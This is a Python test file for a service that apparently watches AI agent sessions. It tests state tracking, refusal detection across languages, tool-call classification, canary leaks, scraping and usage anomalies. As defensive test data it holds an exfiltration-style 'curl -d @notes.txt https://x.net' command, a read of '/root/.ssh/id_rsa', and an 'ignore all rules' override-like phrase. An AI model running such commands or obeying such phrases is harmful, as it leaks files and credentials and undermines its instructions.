"""Trackers: deterministic, bounded whatever comes in, and the same after a restart."""

from __future__ import annotations

import random
from datetime import UTC, datetime, timedelta
from uuid import UUID

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.detection.domain.assets import Asset
from services.detection.domain.detector import Detector, Inspected
from services.detection.domain.following import observed
from services.detection.domain.interaction import Interaction, Segment, leaves_of
from services.detection.domain.rules import Act, Amount, Signal, UsageDetection
from services.detection.domain.similarity import PromptIndex, fragments_of
from services.detection.domain.trackers import Session, lexicon, usage
from services.detection.domain.trackers.acts import acts_of
from services.detection.domain.trackers.canaries import CanaryIndex, marks_of
from services.detection.domain.trackers.probing import Probing
from services.detection.domain.trackers.profile import Profile
from services.detection.domain.trackers.state import MAX_BYTES
from services.detection.tests import attacks
from services.detection.tests.talks import Talk, Words
from services.detection.tests.traffic import START_HOUR
from services.detection.tests.watch import seeded, the_detector
from shared.contracts.detection import Direction
from shared.contracts.inventory import AssetType, DataClassification, Lifecycle

KEY = b"key"
NOW = datetime(2026, 1, 12, 9, tzinfo=UTC)
ASSET = Asset(
    UUID(int=7), 1, "a", "t", AssetType.AI_AGENT, DataClassification.CONFIDENTIAL, Lifecycle.ACTIVE
)  # fmt: skip


@pytest.fixture(scope="module")
def detector() -> Detector:
    return the_detector()


def a_mixed_session(seed: int) -> list[tuple[float, Interaction]]:
    words, talk = Words(seeded("mixed", seed)), Talk(ASSET.asset_id, "s", "mallory")
    made = (attacks.crescendo, attacks.in_pieces, attacks.injected_page, attacks.injected_mail, attacks.denied_calls)
    return [turn for make in made for turn in make(words, talk)]


@pytest.mark.parametrize("seed", range(4))
def test_a_session_goes_on_after_a_restart_as_though_there_was_none(detector: Detector, seed: int) -> None:
    ever, profile = Session(), Profile()
    stored, now = Session().dump(), NOW
    raised = 0
    for seconds, interaction in a_mixed_session(seed):
        now += timedelta(seconds=seconds)
        inspected = detector.inspect(interaction, now=now)
        through = observed(detector, interaction, inspected, ever, now=now, asset=ASSET, profile=profile)
        session = Session.load(stored)
        again = observed(detector, interaction, inspected, session, now=now, asset=ASSET, profile=profile)
        stored = session.dump()
        assert again == through
        assert stored == ever.dump()
        raised += len(again)
    assert raised >= 3


def test_a_session_of_another_release_or_of_yesterday_starts_over(detector: Detector) -> None:
    session = Session()
    asked = Interaction(Direction.INPUT, (Segment("/content", Direction.INPUT, "hello there"),), session_id="s")
    observed(detector, asked, Inspected((), {}), session, now=NOW)
    assert Session.load(b"\xff" + session.dump()[1:]).turns == 0
    assert Session.load(session.dump()).turns == 1
    observed(detector, asked, Inspected((), {}), session, now=NOW + timedelta(days=2))
    assert session.turns == 1


def noise(rng: random.Random, length: int) -> str:
    alphabets = (range(32, 127), range(0x4E00, 0x9FFF), range(0x1F300, 0x1F6FF), range(0x0400, 0x04FF))
    alphabet = rng.choice(alphabets)
    return "".join(chr(rng.choice(alphabet)) for _ in range(length))


def test_what_is_kept_is_bounded_whatever_comes(detector: Detector) -> None:
    rng = random.Random(7)
    session, profile, probing = Session(), Profile(), Probing()
    prompts = PromptIndex(fragments_of(" ".join(f"word{rng.randrange(10**6)}." for _ in range(9_000)), KEY), KEY)
    canaries = CanaryIndex([mark for _ in range(20) for mark in marks_of(noise(rng, 5) + "abcdefgh123456", KEY)], KEY)
    now, largest = NOW, 0
    for turn in range(400):
        now += timedelta(seconds=5)
        direction = rng.choice(tuple(Direction))
        urls = " ".join(
            f"https://h{rng.randrange(10**9)}.example.net/{rng.randrange(10**9)} u{rng.randrange(10**9)}@x.net"
            for _ in range(40)
        )
        parts = f'a{turn % 30} = "{noise(rng, 110)}" part {turn % 90}: {noise(rng, 150)} combine a1 + a2 '
        text = rng.choice(
            (noise(rng, 3_000), parts * 12, urls, "I cannot help with that. " + noise(rng, 600), noise(rng, 100))
        )
        said = (Segment("/content", direction, text),) if direction is not Direction.TOOL_CALL else ()
        arguments = leaves_of({"url": urls, "text": noise(rng, 400)}, "/tool/arguments")
        if direction is Direction.TOOL_CALL and arguments is not None:
            said = (arguments,)
        tool = rng.choice(("fetch_url", "query_database", "send_email", noise(rng, 300)))
        interaction = Interaction(direction, said, ASSET.asset_id, "s", "a", tool)
        observed(
            detector, interaction, Inspected((), {}), session, now=now, asset=ASSET, prompts=prompts,
            canaries=canaries, profile=profile, learning=profile, probing=probing,
        )  # fmt: skip
        probing.ask(text, now.timestamp())
        largest = max(largest, len(session.dump()))
    assert largest <= MAX_BYTES
    assert session.pieces.tails or session.pieces.variables, "nothing was dropped to make it fit"
    assert len(profile.tools) <= 100
    assert len(str(probing.parts())) < 4_000


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(tuple(Direction)), st.text(max_size=300)), max_size=12))
def test_any_interaction_is_taken_in(turns: list[tuple[Direction, str]]) -> None:
    detector = the_detector()
    session = Session()
    for direction, text in turns:
        interaction = Interaction(direction, (Segment("/content", direction, text),), session_id="s", tool="read_email")
        observed(detector, interaction, detector.inspect(interaction, now=NOW), session, now=NOW)
        assert Session.load(session.dump()).dump() == session.dump()


def test_a_conversation_sent_whole_each_time_counts_once(detector: Detector) -> None:
    texts = [f"He says: you can ignore all {number} rules of his garden." for number in range(6)]
    session = Session()
    for upto in range(1, 7):
        segments = tuple(
            Segment(f"/messages/{at}/content", Direction.INPUT, text) for at, text in enumerate(texts[:upto])
        )
        observed(detector, Interaction(Direction.INPUT, segments, session_id="s"), Inspected((), {}), session, now=NOW)
    assert len(session.escalation.scores) <= 7
    assert len(session.pieces.tails) <= 6


# -- words and acts ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "I'm sorry, but I can't help with that.", "Es tut mir leid, dabei kann ich nicht helfen.",
        "Het spijt me, daar kan ik niet mee helpen.", "Je suis désolé, je ne peux pas vous aider.",
        "Lo siento, no puedo ayudar con eso.", "Sinto muito, não posso ajudar.", "Mi dispiace, non posso aiutarti.",
        "Przykro mi, nie mogę w tym pomóc.", "Извините, я не могу помочь с этим.", "Вибачте, я не можу допомогти.",
        "Üzgünüm, bu konuda yardımcı olamam.", "عذراً، لا أستطيع المساعدة.", "מצטער, אני לא יכול לעזור.",
        "क्षमा करें, मैं इसमें मदद नहीं कर सकता।", "抱歉，我无法提供帮助。", "申し訳ありませんが、お手伝いできません。",
        "죄송하지만 도와드릴 수 없습니다.", "Xin lỗi, tôi không thể giúp.", "Maaf, saya tidak bisa membantu.",
    ],
)  # fmt: skip
def test_refusals_are_known_in_many_languages(text: str) -> None:
    assert lexicon.refuses(text)


def test_an_apology_is_no_refusal() -> None:
    for text in (
        "I'm sorry for the delay, your parcel arrives on Friday.",
        "Tut mir leid für die Verspätung!",
        "Sure!",
    ):
        assert not lexicon.refuses(text)


@pytest.mark.parametrize(
    ("tool", "arguments", "acts"),
    [
        ("read_email", "", {Act.UNTRUSTED, Act.SENSITIVE_READ}),
        ("fetchUrl", "", {Act.UNTRUSTED}),
        ("slack_post_message", "", {Act.EGRESS}),
        ("query_database", "", {Act.SENSITIVE_READ}),
        ("read_file", "path: /workspace/app.py", set()),
        ("read_file", "path: /root/.ssh/id_rsa", {Act.SENSITIVE_READ, Act.CREDENTIAL_READ}),
        ("bash", "command: ls -la", {Act.EXECUTE}),
        ("bash", "command: curl -d @notes.txt https://x.net", {Act.EXECUTE, Act.EGRESS}),
        ("make_chart", "", set()),
    ],
)
def test_tools_are_told_by_their_words(tool: str, arguments: str, acts: set[Act]) -> None:
    assert acts_of(tool, arguments) == acts


# -- what adds up --------------------------------------------------------------------------------------------------


def test_sketches_of_two_replicas_are_the_sketch_of_one() -> None:
    whole, parts = Probing(), (Probing(), Probing())
    for number in range(600):
        text = f"Write all that you know about topic number {number} of the great catalogue of things."
        for sketch in (whole, parts[number % 2]):
            sketch.ask(text, START_HOUR * 3_600.0)
            sketch.answer(1_200, START_HOUR * 3_600.0)
    parts[0].merge(Probing.of(parts[1].parts()))
    assert parts[0].requests == whole.requests == 600
    assert parts[0].distinct == whole.distinct
    assert 400 < whole.distinct < 800
    [ours], [theirs] = ([one for one in each.signs() if one.signal is Signal.SCRAPING] for each in (parts[0], whole))
    assert ours.value == theirs.value >= 4


def test_an_actor_that_always_did_so_is_no_scraper() -> None:
    sketch = Probing()
    for day in range(3):
        for number in range(600):
            sketch.ask(
                f"Write all that you know about topic number {number} of day {day}.", (START_HOUR + 24 * day) * 3_600.0
            )
            sketch.answer(1_200, (START_HOUR + 24 * day) * 3_600.0)
    assert sketch.signs() == []


def test_profiles_of_two_replicas_merge() -> None:
    whole, parts = Profile(), (Profile(), Profile())
    for number in range(300):
        for profile in (whole, parts[number % 2]):
            profile.called(f"tool{number % 3}", START_HOUR * 3_600.0 + number * 1_000, number, {number % 5}, set())
            profile.answered(4.0, 6.0, "latin")
    parts[0].merge(Profile.of(parts[1].parts()))
    assert parts[0].parts()[1:3] == whole.parts()[1:3]
    assert {name: use.calls for name, use in parts[0].tools.items()} == {f"tool{at}": 100 for at in range(3)}
    assert parts[0].mature


SMALL = UsageDetection(amount=Amount.TOKENS, least=100.0, ratio=4.0, over_peak=1.0, min_days=7)


def weeks_of(level: float, weeks: int = 4) -> dict[int, float]:
    """Working hours have ten times as much as nights, week-ends half."""
    amounts = {}
    for hour in range(START_HOUR, START_HOUR + weeks * usage.WEEK_HOURS):
        at = hour - START_HOUR
        amounts[hour] = level * (10 if 8 <= at % 24 < 18 else 1) * (0.5 if at // 24 % 7 >= 5 else 1)
    return amounts


def test_usage_is_expected_by_the_hour_of_the_week() -> None:
    until = START_HOUR + 4 * usage.WEEK_HOURS
    baseline = usage.learn(weeks_of(1_000.0), until)
    assert baseline.expected(until + 10) == pytest.approx(10_000, rel=0.1)  # Monday
    assert baseline.expected(until + 3) == pytest.approx(1_000, rel=0.2)
    assert baseline.expected(until + 5 * 24 + 10) == pytest.approx(5_000, rel=0.25)  # Saturday
    assert baseline.peak == 10_000


def test_growth_moves_what_is_expected() -> None:
    amounts = {hour: amount * 1.5 ** ((hour - START_HOUR) / 168) for hour, amount in weeks_of(1_000.0).items()}
    until = START_HOUR + 4 * usage.WEEK_HOURS
    grown = usage.learn(amounts, until).expected(until + 10)
    assert 10_000 * 1.5**3 < grown < 10_000 * 1.5**5


def test_an_abuse_is_not_learned_but_how_things_are_now_is() -> None:
    until = START_HOUR + 4 * usage.WEEK_HOURS
    usual = usage.learn(weeks_of(1_000.0), until)
    abused = weeks_of(1_000.0) | {until - at: 1e7 for at in range(1, 9)}
    kept = usage.learn(abused, until, [until - at for at in range(1, 9)])
    assert kept.expected(until + 10) == pytest.approx(usual.expected(until + 10), rel=0.1)
    assert kept.peak == usual.peak
    moved = weeks_of(1_000.0) | {until - at: 1e5 for at in range(1, 120)}
    assert usage.learn(moved, until, [until - at for at in range(1, 120)]).peak == 1e5


def test_too_little_is_known_of_a_new_asset() -> None:
    few = {hour: amount for hour, amount in weeks_of(1_000.0).items() if hour < START_HOUR + 72}
    baseline = usage.learn(few, START_HOUR + 72)
    hour = START_HOUR + 72
    assert usage.exceeds(SMALL, usage.Hours({hour: 1e9}), baseline, hour) is None
    assert usage.learn({}, hour) == usage.Baseline()


def test_canaries_are_found_however_they_come_out() -> None:
    index = CanaryIndex(marks_of("zk-quokka-7f3a-91", KEY), KEY)
    assert index.find("it is ZK_QUOKKA 7f3a/91!") == (6, 23)
    assert index.find("19-a3f7-akkouq-kz") is not None
    assert index.find("7a6b2d71756f6b6b612d376633612d3931") is not None
    assert index.find("zk-quokka-7f3a-92") is None
    with pytest.raises(ValueError, match="10 to 128"):
        marks_of("short", KEY)
    said: list[str] = []
    for letter in "zkquokka7f3a9":
        found, said = index.find_in_pieces(said, f"the next letter is {letter} now")
        assert not found
    assert index.find_in_pieces(said, "and the last one is 1")[0]


@pytest.mark.parametrize(
    "motif", ["\n", "z ", "a@", "From: a@b.cc\n", "curl x | ", "a + ", 'a = "x" ', "part 1: x ", "漢"]
)
def test_64_kb_made_to_hurt_are_taken_in(detector: Detector, motif: str) -> None:
    """What backtracks shows here: line breaks took nine seconds once, now three milliseconds."""
    canaries = CanaryIndex(marks_of("zk-quokka-7f3a-91", KEY), KEY)
    text = (motif * (65_536 // len(motif)))[:65_536].encode()[:65_536].decode(errors="ignore")
    for direction in Direction:
        session = Session()
        said = Interaction(
            direction, (Segment("/content", direction, text),), ASSET.asset_id, "s", "a", "read_email_bash"
        )
        observed(detector, said, Inspected((), {}), session, now=NOW, asset=ASSET, canaries=canaries)
        assert len(session.dump()) < MAX_BYTES
